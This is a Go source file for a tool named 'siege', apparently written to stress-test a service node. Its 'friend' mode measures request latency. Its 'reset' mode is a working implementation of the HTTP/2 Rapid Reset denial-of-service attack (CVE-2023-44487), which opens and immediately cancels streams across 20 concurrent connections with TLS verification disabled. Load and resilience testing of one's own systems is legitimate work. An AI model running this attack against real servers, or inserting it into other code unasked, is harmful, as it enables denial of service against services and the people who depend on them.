// Command siege has two sides. `siege friend URL` is a well-behaved client that measures how long its requests
// take; `siege reset HOST:PORT` attacks with HTTP/2 streams that are opened and reset at once (CVE-2023-44487).
// siege.sh runs them against a node, with slowhttptest and h2load beside.
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"slices"
	"strconv"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "siege:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) != 3 {
		return errors.New("usage: siege friend|reset TARGET SECONDS")
	}
	seconds, err := strconv.Atoi(args[2])
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(seconds)*time.Second)
	defer cancel()
	switch args[0] {
	case "friend":
		return friend(ctx, args[1])
	case "reset":
		return reset(ctx, args[1])
	}
	return fmt.Errorf("there is no side called %q", args[0])
}

const (
	goal     = time.Second // for 99 of 100 requests
	patience = 5 * time.Second
)

// friend asks ten times a second, on a new connection now and then, and fails where that is too slow.
func friend(ctx context.Context, url string) error {
	var took []time.Duration
	failed := 0
	c := client()
	for i := 0; ctx.Err() == nil; i++ {
		if i%20 == 0 {
			c.CloseIdleConnections()
			c = client()
		}
		began := time.Now()
		if err := ask(c, url); err != nil {
			failed++
			fmt.Fprintln(os.Stderr, "friend:", err)
		}
		took = append(took, time.Since(began))
		time.Sleep(100 * time.Millisecond)
	}
	slices.Sort(took)
	p99 := took[len(took)*99/100]
	fmt.Printf("friend: %d requests, %d failed, p50 %v, p99 %v, longest %v\n", len(took), failed, took[len(took)/2].Round(time.Millisecond), p99.Round(time.Millisecond), took[len(took)-1].Round(time.Millisecond))
	if p99 > goal || failed > 0 {
		return fmt.Errorf("the goal is p99 of at most %v and no failure", goal)
	}
	return nil
}

func client() *http.Client {
	return &http.Client{Timeout: patience, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, ForceAttemptHTTP2: true}}
}

func ask(c *http.Client, url string) error {
	r, err := c.Get(url)
	if err != nil {
		return err
	}
	defer r.Body.Close()
	if _, err := io.Copy(io.Discard, r.Body); err != nil {
		return err
	}
	if r.StatusCode != http.StatusOK {
		return fmt.Errorf("answered %s", r.Status)
	}
	return nil
}

// attackers is how many connections attack at a time.
const attackers = 20

func reset(ctx context.Context, addr string) error {
	var streams, conns atomic.Int64
	done := make(chan struct{}, attackers)
	for range attackers {
		go func() {
			for ctx.Err() == nil {
				conns.Add(1)
				n := attack(ctx, addr)
				streams.Add(n)
				if n == 0 {
					time.Sleep(50 * time.Millisecond)
				}
			}
			done <- struct{}{}
		}()
	}
	for range attackers {
		<-done
	}
	fmt.Printf("reset: %d streams opened and reset on %d connections\n", streams.Load(), conns.Load())
	return nil
}

// attack opens streams and resets them until the other side has had enough.
func attack(ctx context.Context, addr string) (n int64) {
	d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return 0
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	go io.Copy(io.Discard, c)
	io.WriteString(c, http2.ClientPreface)
	f := http2.NewFramer(c, nil)
	f.WriteSettings()
	var head bytes.Buffer
	enc := hpack.NewEncoder(&head)
	for id := uint32(1); id < 1<<31-2; id += 2 {
		head.Reset()
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", addr}, {":path", "/v1/ledger"}} {
			enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true}) != nil || f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return n
		}
		n++
	}
	return n
}
